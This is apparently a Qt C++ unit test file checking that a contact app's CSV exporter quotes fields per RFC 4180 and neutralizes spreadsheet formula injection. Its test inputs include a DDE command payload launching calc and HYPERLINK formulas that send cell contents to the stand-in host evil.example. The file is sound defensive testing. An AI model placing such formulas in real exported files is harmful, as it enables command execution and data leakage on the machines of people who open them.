// The contact spreadsheet: RFC 4180 quoting, a BOM for Excel, and no formula injection.
#include "exporters/CsvWriter.h"

#include <QTest>

using namespace rapport;
using namespace rapport::exporters;

class TestCsvWriter : public QObject
{
    Q_OBJECT

private slots:
    void neutralizesFormulaStarts_data();
    void neutralizesFormulaStarts();
    void leavesOrdinaryTextAlone_data();
    void leavesOrdinaryTextAlone();
    void quotesPerRfc4180_data();
    void quotesPerRfc4180();
    void recordEndsWithCrlfAndIsUtf8();
    void maliciousContactCannotInjectFormulas();
    void headerAndCellsLineUp();
    void byteOrderMarkIsUtf8();
};

void TestCsvWriter::neutralizesFormulaStarts_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addRow("equals") << QStringLiteral("=1+1");
    QTest::addRow("hyperlink") << QStringLiteral("=HYPERLINK(\"http://evil.example\",\"click\")");
    QTest::addRow("dde") << QStringLiteral("=cmd|' /C calc'!A0");
    QTest::addRow("plus") << QStringLiteral("+421 905 123 456");
    QTest::addRow("minus") << QStringLiteral("-2+3");
    QTest::addRow("at") << QStringLiteral("@SUM(A1:A2)");
    QTest::addRow("tab") << QStringLiteral("\t=1+1");
    QTest::addRow("carriage return") << QStringLiteral("\r=1+1");
    QTest::addRow("line feed") << QStringLiteral("\n=1+1");
    QTest::addRow("spaces then equals") << QStringLiteral("   =1+1");
    QTest::addRow("year-less birthday") << QStringLiteral("--04-23");
}

void TestCsvWriter::neutralizesFormulaStarts()
{
    QFETCH(QString, cell);
    const QString safe = neutralizeFormula(cell);
    QCOMPARE(safe, QLatin1Char('\'') + cell);
}

void TestCsvWriter::leavesOrdinaryTextAlone_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addRow("empty") << QString();
    QTest::addRow("name") << QStringLiteral("Jana Kováčová");
    QTest::addRow("email") << QStringLiteral("jana@example.com");
    QTest::addRow("equals later") << QStringLiteral("a=b");
    QTest::addRow("hyphenated") << QStringLiteral("Jean-Luc");
    QTest::addRow("emoji") << QStringLiteral("🌟 Zoë");
    QTest::addRow("date") << QStringLiteral("2024-03-12");
}

void TestCsvWriter::leavesOrdinaryTextAlone()
{
    QFETCH(QString, cell);
    QCOMPARE(neutralizeFormula(cell), cell);
}

void TestCsvWriter::quotesPerRfc4180_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<QString>("field");
    QTest::addRow("plain") << QStringLiteral("abc") << QStringLiteral("abc");
    QTest::addRow("comma") << QStringLiteral("Smith, PhD") << QStringLiteral("\"Smith, PhD\"");
    QTest::addRow("quote") << QStringLiteral("say \"hi\"") << QStringLiteral("\"say \"\"hi\"\"\"");
    QTest::addRow("newline") << QStringLiteral("a\nb") << QStringLiteral("\"a\nb\"");
    QTest::addRow("crlf") << QStringLiteral("a\r\nb") << QStringLiteral("\"a\r\nb\"");
    QTest::addRow("semicolon unquoted") << QStringLiteral("a; b") << QStringLiteral("a; b");
}

void TestCsvWriter::quotesPerRfc4180()
{
    QFETCH(QString, cell);
    QFETCH(QString, field);
    QCOMPARE(csvField(cell), field);
}

void TestCsvWriter::recordEndsWithCrlfAndIsUtf8()
{
    const QByteArray r = csvRecord({QStringLiteral("王伟"), QStringLiteral("x,y"), QString(), QStringLiteral("=1")});
    QCOMPARE(r, QByteArray("王伟,\"x,y\",,'=1\r\n"));
}

void TestCsvWriter::maliciousContactCannotInjectFormulas()
{
    Contact c;
    c.displayName = QStringLiteral("=HYPERLINK(\"http://evil.example?\"&A1,\"Error\")");
    c.firstName = QStringLiteral("+cmd");
    c.lastName = QStringLiteral("-1");
    c.company = QStringLiteral("@SUM(1,2)");
    c.position = QStringLiteral("\t=2");
    c.notes = QStringLiteral("\r=3");
    c.emails = {{QString(), QStringLiteral("=evil@example.com")}, {QString(), QStringLiteral("ok@example.com")}};
    c.phones = {{QString(), QStringLiteral("+421 905 123 456")}};
    c.circles = {QStringLiteral("=circle"), QStringLiteral("VIP")};
    const QStringList cells = contactCsvCells(c);
    for (const QString& cell : cells) {
        const QString safe = neutralizeFormula(cell);
        if (!safe.isEmpty()) {
            const QChar first = safe.front();
            QVERIFY2(first != QLatin1Char('=') && first != QLatin1Char('+') && first != QLatin1Char('-') &&
                         first != QLatin1Char('@') && first != QLatin1Char('\t') && first != QLatin1Char('\r'),
                     qPrintable(safe));
        }
    }
    // In the written record every dangerous cell starts with the apostrophe (inside quotes if quoted).
    const QString record = QString::fromUtf8(csvRecord(cells));
    QVERIFY(
        record.startsWith(QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"Error\"\")\",'+cmd,'-1,")));
    QVERIFY(record.contains(QStringLiteral(",\"'@SUM(1,2)\",'\t=2,")));
    QVERIFY(record.contains(QStringLiteral("'=evil@example.com; ok@example.com")));
    QVERIFY(record.contains(QStringLiteral(",'+421 905 123 456,")));
    QVERIFY(record.contains(QStringLiteral(",'=circle; VIP,")));
    QVERIFY(record.contains(QStringLiteral(",\"'\r=3\",")));
}

void TestCsvWriter::headerAndCellsLineUp()
{
    Contact c;
    c.displayName = QStringLiteral("Jana");
    c.birthday = QStringLiteral("1988-04-23");
    c.cadenceIdealDays = 30;
    c.archived = true;
    const QStringList header = contactCsvHeader();
    const QStringList cells = contactCsvCells(c);
    QCOMPARE(cells.size(), header.size());
    QCOMPARE(cells.at(header.indexOf(QStringLiteral("Name"))), QStringLiteral("Jana"));
    QCOMPARE(cells.at(header.indexOf(QStringLiteral("Birthday"))), QStringLiteral("1988-04-23"));
    QCOMPARE(cells.at(header.indexOf(QStringLiteral("Ideal days between contacts"))), QStringLiteral("30"));
    QCOMPARE(cells.at(header.indexOf(QStringLiteral("Most days between contacts"))), QString());
    QCOMPARE(cells.at(header.indexOf(QStringLiteral("Archived"))), QStringLiteral("yes"));
}

void TestCsvWriter::byteOrderMarkIsUtf8()
{
    QCOMPARE(csvByteOrderMark(), QByteArray("\xEF\xBB\xBF"));
}

QTEST_GUILESS_MAIN(TestCsvWriter)
#include "tst_csvwriter.moc"
